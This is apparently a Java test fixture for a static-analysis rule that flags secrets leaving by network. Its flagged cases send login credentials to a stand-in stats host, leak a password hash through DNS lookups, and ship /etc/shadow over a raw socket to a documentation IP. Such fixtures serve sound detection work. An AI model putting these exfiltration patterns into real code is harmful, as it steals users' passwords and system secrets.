import java.io.*;
import java.net.*;
import java.nio.file.*;
import javax.servlet.http.*;

class Report {
    static String packUp(String user, String word) {
        return user + ":" + word;
    }

    void afterLogin(HttpServletRequest req) throws Exception {
        String q = packUp(req.getParameter("user"), req.getParameter("password"));
        // ruleid: java-secret-leaves-by-network
        URL u = new URL("https://stats.example.net/i?" + q);
        u.openStream().close();
    }

    void ask(Account a) throws Exception {
        String label = Integer.toHexString(a.getPassword().hashCode());
        // ruleid: java-secret-leaves-by-network
        InetAddress.getByName(label + ".t.example.org");
    }

    void accounts() throws Exception {
        byte[] text = Files.readAllBytes(Paths.get("/etc/shadow"));
        Socket s = new Socket("198.51.100.4", 80);
        // ruleid: java-secret-leaves-by-network
        s.getOutputStream().write(text);
    }

    void page(int n) throws Exception {
        // ok: java-secret-leaves-by-network
        new URL("https://example.net/p/" + n).openStream();
    }

    void name(String host) throws Exception {
        // ok: java-secret-leaves-by-network
        InetAddress.getByName(host);
    }

    void kept(Account a) {
        // ok: java-secret-leaves-by-network
        System.out.println(a.getPassword());
    }
}
